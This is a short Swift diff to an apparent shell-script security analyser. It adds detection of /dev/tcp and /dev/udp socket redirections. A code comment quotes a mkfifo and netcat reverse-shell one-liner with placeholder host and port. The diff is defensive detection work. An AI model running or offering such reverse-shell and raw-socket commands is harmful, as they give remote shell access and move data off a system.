@@ -135,6 +135,12 @@ enum ShellAccess {
     }
 
     static func checkScript(_ a: Analysis) {
+        // `{ ...; } 3<>/dev/tcp/h/p`: a socket opened by a group, whose redirection stands alone.
+        for c in a.script.commands where c.words.isEmpty {
+            if let r = c.redirects.first(where: { $0.target.value.hasPrefix("/dev/tcp/") || $0.target.value.hasPrefix("/dev/udp/") }) {
+                a.hit(.rawSocketTransfer, evidence: c.text, reason: "data sent or received through \(r.target.value)")
+            }
+        }
         // mkfifo relay: `mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc h p > /tmp/f`.
         let fifo = a.invocations.indices.first { a.invocations[$0].program == "mkfifo" || (a.invocations[$0].program == "mknod" && a.invocations[$0].args.contains("p")) }
         if let f = fifo {
